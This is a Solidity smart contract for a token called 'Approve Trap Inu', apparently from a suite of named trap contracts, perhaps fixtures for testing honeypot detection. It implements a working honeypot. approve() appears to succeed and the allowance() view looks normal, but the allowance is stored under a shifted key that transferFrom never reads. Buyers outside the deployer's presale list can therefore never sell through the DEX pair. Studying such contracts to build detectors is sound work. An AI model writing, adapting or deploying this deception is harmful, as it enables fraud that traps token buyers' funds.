// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IRtDexRouter, IRtDexFactory} from "./RtCommon.sol";

/// @title RtApproveTrap
/// @notice Honeypot through the allowance: approve() reports success and
/// emits Approval, but for anyone outside the dev's "presale" list it files
/// the allowance under a key transferFrom never reads. Wallet transfers work;
/// every router sell (transferFrom) fails.
contract RtApproveTrap {
    string public name = "Approve Trap Inu";
    string public symbol = "ATRAP";
    uint8 public decimals = 18;
    uint256 public totalSupply;
    address public immutable pair;
    address private _dev;
    mapping(address => uint256) private _bal;
    mapping(address => mapping(address => uint256)) private _allow;
    mapping(address => bool) private _presale;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address router) {
        _dev = msg.sender;
        _presale[msg.sender] = true;
        pair = IRtDexFactory(IRtDexRouter(router).factory()).createPair(address(this), IRtDexRouter(router).WETH());
        totalSupply = 250_000_000 ether;
        _bal[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setPresale(address[] calldata accounts, bool on) external {
        require(msg.sender == _dev);
        for (uint256 i; i < accounts.length; i++) _presale[accounts[i]] = on;
    }

    function balanceOf(address a) external view returns (uint256) {
        return _bal[a];
    }

    function allowance(address o, address s) external view returns (uint256) {
        return _allow[o][_key(o, s)];
    }

    function _key(address o, address s) private view returns (address) {
        return _presale[o] ? s : address(uint160(s) ^ uint160(block.chainid));
    }

    function approve(address s, uint256 v) external returns (bool) {
        _allow[msg.sender][_key(msg.sender, s)] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        _move(msg.sender, to, v);
        return true;
    }

    function transferFrom(address f, address to, uint256 v) external returns (bool) {
        uint256 a = _allow[f][msg.sender];
        require(a >= v, "ERC20: insufficient allowance");
        if (a != type(uint256).max) _allow[f][msg.sender] = a - v;
        _move(f, to, v);
        return true;
    }

    function _move(address f, address to, uint256 v) private {
        require(_bal[f] >= v, "ERC20: transfer amount exceeds balance");
        _bal[f] -= v;
        _bal[to] += v;
        emit Transfer(f, to, v);
    }
}
